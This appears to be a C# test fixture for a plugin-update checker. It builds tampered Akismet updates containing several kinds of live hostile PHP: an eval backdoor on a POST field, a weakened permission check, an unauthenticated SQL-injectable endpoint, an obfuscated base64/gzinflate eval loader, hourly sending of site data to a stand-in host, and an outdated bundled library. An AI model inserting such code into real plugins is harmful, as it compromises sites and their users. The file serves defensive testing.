namespace Colophon.Php.Tests.Difference;

/// <summary>What a stolen or sold plugin's update does. Nothing here runs: it is text for a reader, and each is its own plain kind.</summary>
internal static class Misdeeds
{
    public static Akismet Backdoor(Akismet update) => update.Replace("class.akismet-admin.php", "public static function init() {", "public static function init() {\n\t\tif ( isset( $_POST['_ak'] ) ) {\n\t\t\teval( stripslashes( $_POST['_ak'] ) );\n\t\t}");

    public static Akismet LostCapability(Akismet update) => update.Replace("class.akismet-rest-api.php", "return current_user_can( 'manage_options' );", "return is_user_logged_in();");

    public static Akismet OpenSql(Akismet update) => update.Append("class.akismet-admin.php", """

        add_action( 'wp_ajax_nopriv_akismet_history', 'akismet_history' );
        function akismet_history() {
            global $wpdb;
            $rows = $wpdb->get_results( "SELECT * FROM {$wpdb->commentmeta} WHERE comment_id = " . $_GET['comment'] );
            wp_send_json( $rows );
        }

        """);

    public static Akismet HiddenLoader(Akismet update) => update.Add("views/cache.php", """
        <?php
        $l = 'ba' . 'se64' . '_dec' . 'ode';
        $z = 'gzin' . 'flate';
        $p = 'S03OyFdQyUgtSlWwVUgsSs7ILEtVUE9OzFMvSyzSsAbSGnrFOSkxBSWZuQoaqXkKqYWJOQoA';
        eval( $z( $l( $p ) ) );

        """).Replace("akismet.php", "require_once( AKISMET__PLUGIN_DIR . 'class.akismet-widget.php' );", "require_once( AKISMET__PLUGIN_DIR . 'class.akismet-widget.php' );\nrequire_once( AKISMET__PLUGIN_DIR . 'views/cache.php' );");

    public static Akismet NewHost(Akismet update) => update.Append("class.akismet-widget.php", """

        class Akismet_Metrics {
            const HOST = 'collect.metrics.example';
            public static function send() {
                $url = 'https://' . self::HOST . '/v1/site';
                wp_remote_post( $url, array( 'body' => array( 'site' => home_url(), 'users' => count_users() ) ) );
            }
        }
        add_action( 'akismet_metrics', array( 'Akismet_Metrics', 'send' ) );
        wp_schedule_event( time(), 'hourly', 'akismet_metrics' );

        """);

    public static Akismet VulnerableLibrary(Akismet update) => update.Add("_inc/lib/handlebars.min.js", "/*!\n\n handlebars v4.5.3\n\nCopyright (C) 2011-2017 by Yehuda Katz\n*/\n!function(){}();\n");

    public static Akismet All(Akismet update) => VulnerableLibrary(NewHost(HiddenLoader(OpenSql(LostCapability(Backdoor(update))))));
}
